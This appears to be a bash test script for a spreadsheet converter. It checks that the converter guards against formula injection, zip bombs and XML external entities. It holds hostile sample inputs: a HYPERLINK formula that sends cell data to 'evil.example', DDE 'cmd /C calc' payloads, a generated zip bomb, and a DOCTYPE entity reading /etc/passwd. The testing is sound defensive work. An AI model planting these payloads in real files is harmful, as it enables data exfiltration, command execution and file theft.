# Hostile spreadsheets: formula injection is written safely (OWASP: string cells in XLSX, a leading
# "'" in CSV), checked by opening our files in LibreOffice Calc; zip bombs and broken packages are
# refused with one clear line; formulas read are never evaluated.
. "$(dirname "$0")/cli_helpers.bash"
PYTHON=${PYTHON:-/usr/bin/python3}
"$PYTHON" -c 'import openpyxl' 2>/dev/null || { echo "SKIP: python3-openpyxl is not installed"; exit 77; }

cat > evil.json <<'JSON'
{"program": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Clic\")", "ministry": "+cmd|' /C calc'!A0",
 "service": "@SUM(1+1)*cmd|' /C calc'!A0",
 "commitments": [{"number": "1", "recommendation": "=1+1", "commitment": "-2+3", "responsible": "=A1",
                  "compliance": "'=ya con comilla", "status": "fulfilled", "status_text": "=\"Cumplido\""}]}
JSON
run convert evil.json -o evil.xlsx; expect_status 0
run convert evil.json -o evil.csv; expect_status 0
run convert evil.json --to csv-semicolon -o evil-es.csv; expect_status 0

# XLSX: every value is a string cell, never a formula; the text is kept exactly.
"$PYTHON" - <<'PY' || fail "evil.xlsx holds a formula"
import openpyxl, zipfile
z = zipfile.ZipFile("evil.xlsx")
for name in z.namelist():
    if name.startswith("xl/worksheets/"):
        assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
wb = openpyxl.load_workbook("evil.xlsx")
ws = wb["Compromisos"]
assert ws["B2"].data_type == "s" and ws["B2"].value == "=1+1", (ws["B2"].data_type, ws["B2"].value)
assert wb["Informe"]["B3"].value.startswith("=HYPERLINK(")
PY
# CSV: guarded with a leading quote, and read back exactly.
grep -q "^Programa/Institución,\"'=HYPERLINK(" evil.csv || fail "the CSV does not guard =HYPERLINK: $(sed -n 3p evil.csv)"
if grep -Eq '(^|,)[=+@-]' evil.csv; then fail "a CSV cell starts with a formula character: $(grep -E '(^|,)[=+@-]' evil.csv)"; fi
for f in evil.xlsx evil.csv evil-es.csv; do
  run convert "$f" -o back.json; expect_status 0
  run convert evil.json -o want.json; expect_status 0
  cmp -s back.json want.json || fail "$f does not read back exactly: $(diff back.json want.json)"
done

# LibreOffice Calc opening our files evaluates nothing: no formula in what it makes of them.
command -v soffice >/dev/null || fail "soffice is missing: install libreoffice-calc-nogui (scripts/packages.txt)"
profile="file://$WORK/lo-profile"
mkdir lo
soffice "-env:UserInstallation=$profile" --headless --infilter='Text - txt - csv (StarCalc):44,34,76,1' \
  --convert-to 'xlsx:Calc MS Excel 2007 XML' --outdir lo evil.csv >/dev/null 2>&1 || fail "soffice failed on evil.csv"
soffice "-env:UserInstallation=$profile" --headless --convert-to ods --outdir lo evil.xlsx >/dev/null 2>&1 ||
  fail "soffice failed on evil.xlsx"
"$PYTHON" - <<'PY' || fail "LibreOffice made a formula of our output"
import openpyxl, zipfile
wb = openpyxl.load_workbook("lo/evil.xlsx")
for ws in wb:
  for row in ws.iter_rows():
      for cell in row:
          assert cell.data_type != "f", (cell.coordinate, cell.value)
assert b"table:formula" not in zipfile.ZipFile("lo/evil.ods").read("content.xml")
PY

# A zip bomb (300 MB of zeros in a 300 KB file) is refused before it is inflated, in one line.
"$PYTHON" - <<'PY'
import zipfile
with zipfile.ZipFile("bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("xl/workbook.xml", "<workbook/>")
    z.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 << 20))
PY
run convert bomb.xlsx -o x.json
expect_status 1
expect_one_error bomb.xlsx
case "$ERR" in *"zip bomb"*) ;; *) fail "bomb: $ERR" ;; esac
[ ! -e x.json ] || fail "an output was written for the bomb"

# Not a workbook at all, and a sheet with a DOCTYPE.
printf 'not a zip' > fake.xlsx
run convert fake.xlsx -o x.json
expect_status 1
expect_one_error fake.xlsx
"$PYTHON" - <<'PY'
import zipfile
with zipfile.ZipFile("doctype.ods", "w") as z:
    z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    z.writestr("content.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
PY
run convert doctype.ods -o x.json
expect_status 1
expect_one_error doctype.ods
case "$ERR" in *"DOCTYPE"*) ;; *) fail "doctype: $ERR" ;; esac
echo ok
